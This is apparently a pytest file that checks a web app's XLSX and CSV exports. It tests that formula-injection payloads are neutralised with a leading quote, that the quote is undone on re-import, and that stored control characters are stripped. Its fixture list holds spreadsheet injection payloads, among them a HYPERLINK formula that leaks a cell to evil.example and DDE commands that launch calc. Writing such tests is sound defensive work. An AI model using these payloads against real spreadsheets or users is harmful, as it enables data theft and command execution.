"""Issue 16, findings 3 and 5 (exports): no live formulas, and control characters already stored do not break them.

Real app, real embedded store, real spreadsheet files (read back with openpyxl and the csv module).
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from graph.dataset import export_dataset, read_dataset
from graph.sheet_import import validate
from graph.spreadsheet import read_table
from graph.store import GraphStore
from tests import api_support
from tests.api_support import login_as, make_app

demo_dir = api_support.demo_dir
store = api_support.store

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def app(store: GraphStore) -> Any:
    return make_app(store)


def _problem(store: GraphStore, problem_id: str, title: str) -> None:
    enterprise = next(iter(store.iter_nodes("Enterprise")))
    store.create_node("Problem", problem_id, {"title": title, "description": "x", "district": enterprise["district"],
                                              "enterprise_id": enterprise["id"], "status": "open",
                                              "service_type": "技术帮扶"})


def _xlsx_cells(data: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(data))  # not read-only: cell.data_type tells formulas apart
    return [cell for row in book.worksheets[0].iter_rows() for cell in row]


def _csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]


# -- finding 3: no live formulas in exports ------------------------------------------------------------
def test_exports_neutralise_formulas_and_import_undoes_it(app: Any, store: GraphStore, tmp_path: Path) -> None:
    for i, title in enumerate(FORMULAS):
        _problem(store, f"PX{i}", title)
    worker = next(iter(store.iter_nodes("Worker")))
    store.update_node("Worker", worker["id"], {"contact": "=1+2"})
    client, _ = login_as(app, store, "admin")

    xlsx = client.get("/export/problems.xlsx")
    assert xlsx.status_code == 200
    cells = _xlsx_cells(xlsx.data)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = {c.value for c in cells}
    for title in FORMULAS:
        assert "'" + title.replace("\r", "\n") in values  # the workbook's XML reads a CR back as a LF
    rows = _csv_cells(client.get("/export/problems.csv").data)
    for title in FORMULAS:
        assert "'" + title in rows and title not in rows
    assert not [c for c in rows if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    workers_xlsx = _xlsx_cells(client.get("/export/workers.xlsx").data)
    assert "'=1+2" in {c.value for c in workers_xlsx} and not [c for c in workers_xlsx if c.data_type == "f"]
    assert "'=1+2" in _csv_cells(client.get("/export/workers.csv").data)

    # the exported file imports back unchanged (the quote is undone), in both formats
    for name, data in (("p.csv", client.get("/export/problems.csv").data),
                       ("p.xlsx", client.get("/export/problems.xlsx").data)):
        preview = validate(store, "problems", read_table(name, data))
        titles = {row["id"]: row["title"] for row in preview.rows}
        for i, title in enumerate(FORMULAS):
            assert titles[f"PX{i}"] == title.strip(), name  # cells are read stripped, as before

    # jianglian export's JSON Lines stay lossless
    export_dataset(store, tmp_path)
    lines = [json.loads(line) for line in (tmp_path / "problems.jsonl").read_text(encoding="utf-8").splitlines()]
    assert {row["id"]: row["title"] for row in lines if row["id"].startswith("PX")} == {
        f"PX{i}": title for i, title in enumerate(FORMULAS)}
    assert read_dataset(tmp_path).errors == []


# -- finding 5: control characters ---------------------------------------------------------------------
def test_control_characters_already_stored_do_not_break_exports(app: Any, store: GraphStore) -> None:
    _problem(store, "PC1", "主轴\x00异响\x07\x1b[31m")
    _problem(store, "PC2", "\x00=1+1")
    client, _ = login_as(app, store, "admin")
    for fmt in ("xlsx", "csv"):
        response = client.get(f"/export/problems.{fmt}")
        assert response.status_code == 200, fmt
        values = [c.value for c in _xlsx_cells(response.data)] if fmt == "xlsx" else _csv_cells(response.data)
        assert "主轴异响[31m" in values and "'=1+1" in values
